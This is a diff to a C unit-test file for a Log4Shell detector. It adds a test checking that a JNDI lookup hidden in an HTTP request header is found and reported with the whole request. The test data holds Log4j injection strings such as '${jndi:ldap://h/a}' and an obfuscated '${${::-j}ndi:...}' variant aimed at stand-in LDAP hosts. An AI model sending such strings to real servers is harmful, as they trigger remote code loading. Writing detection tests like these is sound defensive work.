@@ -19,7 +19,7 @@ static struct detect *detect;
 static struct seen {
     unsigned n;
     uint32_t sid;
-    char name[256], raw[256], decoded[256], location[64], techniques[256];
+    char name[256], raw[256], decoded[256], location[64], techniques[256], payload[256];
 } seen;
 
 static void copy(char *to, size_t room, struct bytes from)
@@ -39,6 +39,7 @@ static void on_finding(void *arg, const struct finding *f)
     copy(seen.name, sizeof seen.name, attrs_get(f->attrs, ATTR_JNDI_NAME));
     copy(seen.location, sizeof seen.location, attrs_get(f->attrs, ATTR_JNDI_LOCATION));
     copy(seen.raw, sizeof seen.raw, f->raw);
+    copy(seen.payload, sizeof seen.payload, f->payload);
     copy(seen.decoded, sizeof seen.decoded, f->decoded);
     for (unsigned i = 0; i < f->attrs->n; i++)
         if (f->attrs->v[i].id == ATTR_JNDI_TECHNIQUE) {
@@ -115,6 +116,32 @@ static void a_text_is_resolved(void **state)
     assert_string_equal(seen.decoded, "${${::-j}ndi:ldap://h.example/a}");
     assert_string_equal(seen.raw, "%24%7B${::-j}ndi:ldap://h.example/a%7D");
     assert_string_equal(seen.techniques, "nested default-value form ");
+}
+
+static void head_parts(const struct field *head, field_fn *fn, void *arg)
+{
+    struct field part = *head;
+
+    part.parts = NULL;
+    part.kind = FIELD_HTTP_REQUEST_HEADER;
+    part.name = BYTES_LIT("X");
+    part.value = bytes_from(head->value, strlen("GET / HTTP/1.1\r\nX: "));
+    fn(arg, &part);
+}
+
+/* A head is taken apart when it is marked; the alert shows the whole of it. */
+static void a_head_is_the_payload_of_its_parts(void **state)
+{
+    static const char head[] = "GET / HTTP/1.1\r\nX: ${jndi:ldap://h/a}";
+
+    (void)state;
+    field.kind = FIELD_HTTP_REQUEST_HEAD;
+    field.parts = head_parts;
+    give(bytes_str(head));
+    assert_int_equal(seen.n, 1);
+    assert_string_equal(seen.location, "http.request_header");
+    assert_string_equal(seen.raw, "${jndi:ldap://h/a}");
+    assert_string_equal(seen.payload, head);
 }
 
 static void one_lookup_in_one_request_is_one_finding(void **state)
@@ -220,6 +247,7 @@ int main(void)
 #define IN_A_FLOW(f) cmocka_unit_test_setup_teardown(f, new_flow, end_flow)
     const struct CMUnitTest tests[] = {
         IN_A_FLOW(a_text_is_resolved),
+        IN_A_FLOW(a_head_is_the_payload_of_its_parts),
         IN_A_FLOW(one_lookup_in_one_request_is_one_finding),
         IN_A_FLOW(a_window_is_resolved_wherever_it_is_split),
         IN_A_FLOW(a_hostile_window_stays_cheap),
